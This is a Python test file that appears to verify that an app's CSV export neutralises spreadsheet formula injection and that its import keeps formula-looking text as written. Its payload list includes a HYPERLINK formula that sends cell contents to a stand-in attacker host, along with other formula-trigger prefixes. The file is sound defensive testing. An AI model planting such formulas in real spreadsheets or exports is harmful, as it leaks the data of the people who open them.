"""CSV that MemberHub writes never runs as a spreadsheet formula; CSV it reads keeps its text."""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
from pathlib import Path

from app.contacts.models import TeamContact
from app.core.csv_export import SafeCsv

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_written_cells_a_spreadsheet_would_run_get_a_leading_quote():
    out = SafeCsv()
    out.row(["name", "note"])
    for cell in HOSTILE:
        out.row([cell, "plain"])
    out.row(["a=b", "x@y", None])

    raw = out.text().encode()

    assert raw == (
        b"name,note\r\n"
        b"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",plain\r\n"
        b"'+1+1,plain\r\n"
        b"'-2+3,plain\r\n"
        b"'@SUM(A1),plain\r\n"
        b"'\t=1,plain\r\n"
        b"\"'\r=1\",plain\r\n"
        b"a=b,x@y,\r\n"
    )


async def test_imports_keep_formula_looking_text_as_it_was(team, tmp_path):
    csv_file = tmp_path / "contacts.csv"
    csv_file.write_text("email,first_name,last_name\n" + "".join(
        f"c{i}@example.com,\"{cell.replace(chr(34), chr(34) * 2)}\",-5\n" for i, cell in enumerate(HOSTILE[:4])
    ))

    result = await asyncio.to_thread(
        subprocess.run, [sys.executable, "-m", "app.cli", "import-contacts", str(team.id), str(csv_file)],
        cwd=ROOT, env=dict(os.environ), capture_output=True, text=True, timeout=120)

    assert result.returncode == 0, result.stderr
    stored = {c.email: (c.first_name, c.last_name) for c in await TeamContact.filter(team_id=team.id)}
    assert stored == {f"c{i}@example.com": (cell, "-5") for i, cell in enumerate(HOSTILE[:4])}
